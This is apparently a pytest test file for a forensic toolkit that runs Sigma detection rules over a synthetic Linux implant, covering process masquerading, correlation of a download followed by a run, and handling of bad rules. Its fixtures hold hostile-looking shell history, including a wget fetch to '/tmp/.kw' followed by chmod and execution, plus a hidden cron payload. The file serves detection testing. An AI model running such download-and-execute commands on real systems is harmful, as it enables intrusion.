"""Sigma rules over a small synthetic case: exact matches, exact non-matches, correlation, bad rules."""

import json
import textwrap

import pandas as pd
import pytest

from tests.helpers.synthetic_case import SID, implant_tables, write_case
from toolkit.case import Case
from toolkit.correlate.sigma.load import load_rules
from toolkit.correlate.sigma.run import compile_rules, run_rules
from toolkit.correlate.sigma.taxonomy import VIEWS
from toolkit.correlate.sigma.views import build_views, written_files
from toolkit.errors import RuleError
from toolkit.pipeline import run_sigma
from toolkit.schemas import make_table
from toolkit.shipped import SIGMA_RULES

MASQUERADE = "sigma:ed6deafa-586b-4ea1-9bd6-d7da7f447415"
DOWNLOAD_RUN = "sigma:6fb64d74-ba25-4dc2-99cd-5f26e1c5595d"
TEMP_CONNECTION = "sigma:11f884f3-6cf5-4d54-80bb-77ff9e28620b"


def _tables(**extra) -> dict:
    t = implant_tables()
    t["memory/cmdlines"] = pd.DataFrame(
        [
            {"pid": 1, "args": "/init"},
            {"pid": 2, "args": "[kthreadd]"},
            {"pid": 77, "args": "[kworker/0:2H]"},
            {"pid": 80, "args": "/usr/sbin/labsvc -t 8080"},
        ]
    )
    t["disk/users"] = pd.DataFrame([{"user": "root", "uid": 0}])
    t["memory/processes"]["uid"] = 0
    t.update(extra)
    return {name: make_table(name, df, snapshot_id=SID, source="test") for name, df in t.items()}


def _rule(tmp_path, text: str, name: str = "rule.yml"):
    path = tmp_path / name
    path.write_text(textwrap.dedent(text))
    return path


def _run(tmp_path, text: str, tables=None):
    """(matches, problems) of one rule text over the synthetic tables."""
    compiled = compile_rules(load_rules([_rule(tmp_path, text)]))
    return run_rules(compiled, tables or _tables(), SID)


PROCESS_RULE = """
title: t
id: 0b9c2f6e-1111-4c8e-9d6a-2a3b4c5d6e7f
logsource: {{category: process_creation, product: linux}}
detection:
  sel:
    {selection}
  condition: sel
level: high
"""


def _process_rule(selection: str) -> str:
    return PROCESS_RULE.format(selection=selection)


def test_shipped_rules_on_the_synthetic_implant(tmp_path):
    case = write_case(tmp_path / "case", _tables())
    result = run_sigma(case, [SIGMA_RULES])
    assert result["rules"] == 5 and result["matches"] == {SID: 3}
    assert [p for p in result["skipped"] if p["severity"] != "info"] == []
    matches = Case.open(case).table("sigma/matches")
    by_rule = {f"sigma:{r.sigma_id}": r for r in matches.itertuples()}
    assert set(by_rule) == {MASQUERADE, DOWNLOAD_RUN, TEMP_CONNECTION}
    # the masquerading process (row 2 of memory/processes), not kthreadd (a kernel thread has no image)
    assert (by_rule[MASQUERADE].table, by_rule[MASQUERADE].row, by_rule[MASQUERADE].pid) == ("memory/processes", 2, 77)
    # the download (history row 1) then the run of the same file (row 3); chmod (row 2) is neither
    links = json.loads(by_rule[DOWNLOAD_RUN].evidence)
    assert [(lk["table"], lk["row"]) for lk in links] == [("disk/shell_history", 1), ("disk/shell_history", 3)]
    assert "time span not checked" in by_rule[DOWNLOAD_RUN].description
    assert (by_rule[TEMP_CONNECTION].table, by_rule[TEMP_CONNECTION].row) == ("memory/sockets", 0)
    findings = Case.open(case).findings
    sigma = findings[findings["rule_id"].str.startswith("sigma:")].set_index("rule_id")
    assert set(sigma.index) == {MASQUERADE, DOWNLOAD_RUN, TEMP_CONNECTION}
    assert set(sigma["entity"]) == {"process:77"}  # joined into the implant's entity like any other finding
    assert sigma.loc[MASQUERADE, "attack_id"] == "T1036.004"
    assert sigma.loc[DOWNLOAD_RUN, "attack_id"] == "T1105,T1204.002"
    assert set(sigma["severity"]) == {"high"}
    assert sigma.loc[MASQUERADE, "title"] == "User-Space Process Named Like a Kernel Thread"
    assert "labsvc" not in " ".join(matches["description"].astype(str))


def test_a_second_run_replaces_the_first(tmp_path):
    case = write_case(tmp_path / "case", _tables())
    run_sigma(case, [SIGMA_RULES])
    only = _rule(tmp_path, _process_rule("Image|endswith: '/labsvc'"))
    assert run_sigma(case, [only])["matches"] == {SID: 1}
    findings = Case.open(case).findings
    assert sorted(findings.loc[findings["rule_id"].str.startswith("sigma:"), "entity"]) == ["process:80"]


@pytest.mark.parametrize(
    "selection, pids",
    [
        ("Image: '/TMP/.KW'", [77]),  # Sigma strings are case-insensitive
        ("CommandLine|contains: 'kworker/0'", [77]),
        ("CommandLine|contains: 'k_orker'", []),  # '_' is a character, not SQL's any-character
        ("CommandLine|contains: 'kw%'", []),  # '%' too
        ("CommandLine|re: '^\\[KWORKER'", []),  # a regex is case-sensitive ...
        ("CommandLine|re|i: '^\\[KWORKER'", [77]),  # ... unless |i
        ("CommandLine|cased: '[KWORKER/0:2H]'", []),
        ("ParentImage: '/init'", [77, 80]),
        ("ProcessId: 80", [80]),
        ("ProcessId: '80'", [80]),  # a number written as a string still matches the pid
        ("User: root", [1, 2, 77, 80]),
        ('CommandLine|contains: "it\'s"', []),  # a quote in a value is data, not SQL
    ],
)
def test_field_matching_is_exact(tmp_path, selection, pids):
    matches, problems = _run(tmp_path, _process_rule(selection))
    assert problems == []
    assert sorted(matches.loc[matches["table"] == "memory/processes", "pid"].tolist()) == pids


def test_keywords_search_the_log_message(tmp_path):
    logs = pd.DataFrame(
        [
            {"log": "authlog", "service": "sshd", "message": "Accepted publickey for root from 10.0.2.2"},
            {"log": "authlog", "service": "sudo", "message": "alice : TTY=pts/0 ; COMMAND=/bin/sh"},
            {"log": "syslog", "service": "CRON", "message": "(root) CMD (/var/tmp/.cache/.kworker-upd)"},
        ]
    )
    tables = _tables(**{"disk/logs": logs})
    rule = """
    title: k
    logsource: {product: linux, service: %s}
    detection:
      keywords: ['%s']
      condition: keywords
    """
    for service, keyword, rows in [
        ("auth", "publickey for root", [0]),
        ("auth", "kworker", []),  # the cron line is not in auth.log
        ("cron", ".kworker-upd", [2]),
        ("sshd", "COMMAND=", []),
        ("syslog", "/bin/sh", [1]),
    ]:
        matches, problems = _run(tmp_path, rule % (service, keyword), tables)
        assert problems == [], service
        assert matches["row"].tolist() == rows, (service, keyword)


def test_rules_that_cannot_run_become_diagnostics(tmp_path):
    windows = """
    title: w
    logsource: {category: process_creation, product: windows}
    detection: {sel: {Image|endswith: '\\\\cmd.exe'}, condition: sel}
    """
    unknown_field = _process_rule("OriginalFileName: kw")
    (tmp_path / "rules").mkdir()
    _rule(tmp_path / "rules", windows, "w.yml")
    _rule(tmp_path / "rules", unknown_field, "u.yaml")
    matches, problems = run_rules(compile_rules(load_rules([tmp_path / "rules"])), _tables(), SID)
    assert len(matches) == 0
    by_severity = {p["severity"]: p for p in problems}
    assert set(by_severity) == {"info", "warning"}
    assert (
        "OriginalFileName" in by_severity["warning"]["why"]
        and "not in snapscope's process_creation view" in (by_severity["warning"]["why"])
    )
    assert by_severity["info"]["where"] == "product:windows/category:process_creation"
    assert by_severity["info"]["why"].startswith("1 rule(s) skipped")


CORRELATION = """
title: download
name: download
logsource: {category: file_event, product: linux}
detection: {sel: {Image|endswith: '/wget'}, condition: sel}
---
title: run
name: run
logsource: {category: process_creation, product: linux}
detection: {sel: {Image|startswith: '/'}, condition: sel}
---
title: download then run
id: 3e1f6a1c-2222-4d0e-8a55-9b2c7d1e0f11
correlation:
  type: %s
  rules: [download, run]
  group-by: [file]
  aliases:
    file: {download: TargetFilename, run: Image}
  timespan: 1h
level: high
"""


def _history(*rows) -> dict:
    files = pd.DataFrame([{"path": "/usr/bin/wget"}])
    return _tables(**{"disk/shell_history": pd.DataFrame(list(rows)), "disk/files": files})


def test_correlation_respects_order_and_time(tmp_path):
    t0 = pd.Timestamp("2026-01-01T00:00:00Z")
    download = {"user": "root", "command": "wget http://x/p -O /tmp/p", "path": "/root/.bash_history"}
    run = {"user": "root", "command": "/tmp/p", "path": "/root/.bash_history"}
    cases = [
        ("temporal_ordered", [download, run], 1),
        ("temporal_ordered", [run, download], 0),  # run before the download: not this pattern
        ("temporal", [run, download], 1),
        ("temporal_ordered", [{**download, "ts": t0}, {**run, "ts": t0 + pd.Timedelta("30min")}], 1),
        ("temporal_ordered", [{**download, "ts": t0}, {**run, "ts": t0 + pd.Timedelta("2h")}], 0),
        ("temporal_ordered", [download, {**run, "command": "/tmp/other"}], 0),  # another file
    ]
    for kind, rows, expected in cases:
        compiled = compile_rules(load_rules([_rule(tmp_path, CORRELATION % kind)]))
        matches, problems = run_rules(compiled, _history(*rows), SID)
        assert problems == [], kind
        assert len(matches) == expected, (kind, rows)
        if expected:
            match = matches.iloc[0]
            assert match["kind"] == "correlation" and "/usr/bin/wget" not in match["description"]  # as written
            # the match stands for its last event: the run, or (unordered, run first) the download
            assert match["path"] == ("/usr/bin/wget" if rows[0] is run else "/tmp/p"), kind


def test_event_count_correlation(tmp_path):
    text = """
    title: conn
    name: conn
    logsource: {category: network_connection, product: linux}
    detection: {sel: {DestinationPort: 8443}, condition: sel}
    ---
    title: many
    correlation: {type: event_count, rules: [conn], group-by: [DestinationIp], timespan: 1m,
                  condition: {gte: %d}}
    level: medium
    """
    for needed, expected in [(1, 1), (2, 0)]:
        matches, problems = _run(tmp_path, text % needed)
        assert problems == [] and len(matches) == expected


def test_written_files_and_views():
    assert written_files(["wget", "http://x/kw", "-O", "/tmp/.kw"]) == ["/tmp/.kw"]
    assert written_files(["curl", "-o/tmp/a", "http://x"]) == ["/tmp/a"]
    assert written_files(["sudo", "wget", "--output-document=/tmp/b", "u"]) == ["/tmp/b"]
    assert written_files(["echo", "x", ">", "/etc/cron.d/y"]) == ["/etc/cron.d/y"]
    assert written_files(["ls", "-o", "/tmp"]) == []  # -o of a program that downloads nothing
    views = build_views(_tables())
    assert set(views) == set(VIEWS)
    procs = views["process_creation"]
    history = procs[procs["_table"] == "disk/shell_history"]
    assert history["args"].tolist() == [
        "ls -la",
        "wget http://10.0.2.100:8443/kw -O /tmp/.kw",
        "chmod +x /tmp/.kw",
        "/tmp/.kw",
    ]
    kw = procs[procs["pid"] == 77].iloc[0]
    assert (kw["exe_path"], kw["parent_exe_path"], kw["user"]) == ("/tmp/.kw", "/init", "root")


@pytest.mark.parametrize(
    "name, text, needle",
    [
        ("yaml.yml", "title: x\nlogsource: [\n", "yaml.yml:3:1: YAML syntax error"),
        ("modifier.yml", _process_rule("Image|nosuch: x"), "modifier.yml: invalid Sigma rule: Unknown modifier"),
        ("condition.yml", _process_rule("Image: x").replace("condition: sel", "condition: sel and ("), "condition.yml"),
        ("empty.yml", "", "empty.yml: holds no Sigma rule"),
    ],
)
def test_bad_rules_are_one_rule_error(tmp_path, name, text, needle):
    with pytest.raises(RuleError) as err:
        load_rules([_rule(tmp_path, text, name)])
    assert needle in str(err.value) and "\n" not in str(err.value)


def test_missing_and_empty_rule_paths(tmp_path):
    (tmp_path / "none").mkdir()
    (tmp_path / "none" / "README.md").write_text("no rules here")
    with pytest.raises(RuleError, match="no Sigma rules"):
        load_rules([tmp_path / "none"])
    with pytest.raises(RuleError, match="no such Sigma rule file"):
        load_rules([tmp_path / "missing"])
